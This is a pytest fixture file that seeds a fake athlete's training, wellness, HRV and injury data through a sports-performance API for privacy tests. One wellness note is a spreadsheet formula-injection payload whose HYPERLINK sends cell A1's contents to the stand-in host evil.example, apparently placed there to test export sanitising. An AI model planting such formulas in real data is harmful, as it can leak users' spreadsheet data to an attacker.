"""The privacy tests' app (with the fake vendors, so devices link through real OAuth) and
a player with a little of everything, built through the API."""

from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.config import Settings
from tests.fixtures import fake_vendor as fv
from tests.fixtures.actors import Actor, Api, Squad, build_squad

# Values that only the player's data holds (and one that only the teammate's does).
PLAYER_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"slept badly")'
MATE_NOTE = "teammate-only-note-6Q2"
CLINICAL = {
    "diagnosis": "Grade 1 hamstring strain (MRI-77Z)",
    "osiics_code": "TMHX",
    "clinical_notes": "Biceps femoris, see MRI-77Z",
}


@pytest.fixture
def app_settings(settings: Settings) -> Settings:
    return fv.vendor_settings(settings)


@pytest.fixture
def fake() -> fv.FakeVendors:
    return fv.FakeVendors()


@pytest.fixture
def app(
    app_settings: Settings, sessionmaker: async_sessionmaker[AsyncSession], fake: fv.FakeVendors
) -> FastAPI:
    return fv.build_app(app_settings, sessionmaker, fake)


@pytest.fixture
async def client(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    async for client in fv.app_client(app):
        yield client


@dataclass
class History:
    squad: Squad
    medic: Actor
    sessions: list[int]
    problem_id: int
    device_id: int
    first_day: date

    @property
    def player_m(self) -> int:
        return int(self.squad.player_membership["id"])

    @property
    def mate_m(self) -> int:
        return int(self.squad.teammate_membership["id"])


def _day(days_ago: int) -> str:
    return (datetime.now(UTC).date() - timedelta(days=days_ago)).isoformat()


async def post_ok(client: httpx.AsyncClient, actor: Actor, url: str, body: Any) -> Any:
    response = await client.post(url, json=body, headers=actor.headers)
    assert response.status_code in (200, 201), (url, response.text)
    return response.json()


@pytest.fixture
async def history(api: Api, fake: fv.FakeVendors) -> History:
    """The squad's player (and, a little, their teammate) with sessions, attendance, sRPE,
    wellness, HRV, an OSTRC answer, a health problem with clinical fields and a WHOOP
    device; the team's physio is MEDICAL staff."""
    squad = await build_squad(api)
    client, team = api.client, squad.team
    medic = await api.user("physio")
    await api.join(team, squad.owner, medic, role="MEDICAL")
    player_m, mate_m = squad.player_membership["id"], squad.teammate_membership["id"]
    now = datetime.now(UTC)
    sessions = [
        (await api.session(team, squad.coach, start=now - timedelta(days=2, hours=3)))["id"],
        (await api.session(team, squad.coach, start=now - timedelta(hours=3)))["id"],
    ]
    for session_id, (status, minutes) in zip(
        sessions, (("LATE", 45), ("PRESENT", 90)), strict=True
    ):
        await post_ok(
            client,
            squad.coach,
            f"/performance/sessions/{session_id}/attendance",
            [
                {"membership_id": player_m, "status": status, "minutes_participated": minutes},
                {"membership_id": mate_m, "status": "PRESENT", "minutes_participated": 90},
            ],
        )
    for session_id, rpe in zip(sessions, (6.5, 7), strict=True):
        url = f"/performance/sessions/{session_id}/srpe"
        await post_ok(client, squad.player, url, {"membership_id": player_m, "rpe_0_10": rpe})
        await post_ok(client, squad.teammate, url, {"membership_id": mate_m, "rpe_0_10": 3})
    wellness = {"sleep_quality": 2, "mood": 4, "soreness": 3, "stress": 5}
    for days_ago, notes in ((1, PLAYER_NOTE), (0, None)):
        body = {"membership_id": player_m, "date": _day(days_ago), **wellness, "notes": notes}
        await post_ok(client, squad.player, "/performance/wellness", body)
    body = {"membership_id": mate_m, **wellness, "notes": MATE_NOTE}
    await post_ok(client, squad.teammate, "/performance/wellness", body)
    for days_ago, rmssd in enumerate((62.0, 58.5, 71.25, 66.0, 49.0)):
        body = {"date": _day(days_ago), "rmssd_ms": rmssd, "source": "MANUAL"}
        await post_ok(client, squad.player, f"/performance/members/{player_m}/hrv", body)
    body = {"date": _day(0), "rmssd_ms": 80.0, "source": "MANUAL"}
    await post_ok(client, squad.teammate, f"/performance/members/{mate_m}/hrv", body)
    iso = now.date().isocalendar()
    body = {
        "week": f"{iso.year}-W{iso.week:02d}",
        **{"q1": 2, "q2": 2, "q3": 1, "q4": 1},
        "new_problem": {"kind": "INJURY", "body_area": "THIGH"},
    }
    await post_ok(client, squad.player, f"/performance/members/{player_m}/ostrc", body)
    body = {"kind": "INJURY", "onset_date": _day(3), "context": "MATCH", **CLINICAL}
    problem = await post_ok(client, medic, f"/performance/members/{player_m}/health-problems", body)
    linked = await fv.connect(client, fake, "whoop", squad.player, player_m)
    assert linked.status_code == 200, linked.text
    return History(squad, medic, sessions, problem["id"], linked.json()["id"], now.date())
